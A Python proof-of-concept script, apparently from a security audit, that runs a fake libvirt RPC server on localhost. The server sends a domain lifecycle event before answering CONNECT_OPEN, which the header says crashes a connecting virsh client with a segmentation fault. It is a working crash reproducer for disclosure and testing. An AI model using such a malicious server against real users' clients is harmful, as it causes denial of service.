#!/usr/bin/python3
# A libvirt RPC server that sends a domain lifecycle event before it answers CONNECT_OPEN.
# FINDINGS.md F1. Usage: python3 scripts/early-event-server.py  (prints the URI, serves one client,
# then exits); then, in another shell: virsh -c URI list  → Segmentation fault (exit 139).
import socket
import struct

REMOTE_PROGRAM = 0x20008086
CALL, REPLY, MESSAGE = 0, 1, 2
AUTH_LIST, CONNECT_OPEN, SUPPORTS_FEATURE, DOMAIN_EVENT_LIFECYCLE = 66, 1, 60, 107


def frame(proc, mtype, serial, body=b""):
    header = struct.pack(">IIiiII", REMOTE_PROGRAM, 1, proc, mtype, serial, 0)
    return struct.pack(">I", 4 + len(header) + len(body)) + header + body


def read_exactly(conn, n):
    data = b""
    while len(data) < n:
        more = conn.recv(n - len(data))
        if not more:
            raise EOFError
        data += more
    return data


def main():
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(120)  # bounded: gives up when no client comes
    print(f"test+tcp://127.0.0.1:{listener.getsockname()[1]}/default", flush=True)
    conn, _ = listener.accept()
    conn.settimeout(30)
    # remote_domain_event_lifecycle_msg: domain {name "x", uuid, id -1}, event 0, detail 0
    event = struct.pack(">I", 1) + b"x\0\0\0" + bytes(16) + struct.pack(">iii", -1, 0, 0)
    try:
        while True:
            length = struct.unpack(">I", read_exactly(conn, 4))[0]
            msg = read_exactly(conn, length - 4)
            _, _, proc, _, serial, _ = struct.unpack(">IIiiII", msg[:24])
            if proc == AUTH_LIST:  # one type: REMOTE_AUTH_NONE
                conn.sendall(frame(proc, REPLY, serial, struct.pack(">II", 1, 0)))
            elif proc == SUPPORTS_FEATURE:
                conn.sendall(frame(proc, REPLY, serial, struct.pack(">I", 1)))
            elif proc == CONNECT_OPEN:
                conn.sendall(frame(DOMAIN_EVENT_LIFECYCLE, MESSAGE, 0, event))
                conn.sendall(frame(proc, REPLY, serial))
            else:
                conn.sendall(frame(proc, REPLY, serial))
    except (EOFError, ConnectionError, TimeoutError):
        print("the client went away")


main()
